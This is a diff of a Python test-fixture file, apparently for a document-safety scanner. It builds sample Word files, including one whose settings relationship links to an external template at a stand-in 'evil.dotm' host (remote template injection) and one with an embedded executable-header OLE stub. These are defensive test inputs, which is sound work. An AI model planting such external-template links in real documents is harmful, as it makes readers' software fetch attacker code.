@@ -18,6 +18,7 @@ from pypdf.generic import (
 
 ARABIC_PDF = (Path(__file__).parent / "arabic.pdf").read_bytes()
 """Printed by Chromium: letters stand in presentation forms, Latin words out of place."""
+RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
 LINES = [
     "Salma Natsheh",
     "Skills",
@@ -188,10 +189,10 @@ def word_with_file_inside():
     return _word_with(**{"word/embeddings/oleObject1.bin": b"MZ"})
 
 
-def word_with_template_elsewhere():
+def word_linked(kind="attachedTemplate", target="http://example.org/evil.dotm"):
     link = (
-        '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" '
-        'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
+        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" Type="http://x/{kind}" '
+        f'Target="{target}" TargetMode="External"/></Relationships>'
     )
     return _word_with(**{"word/_rels/settings.xml.rels": link})
 
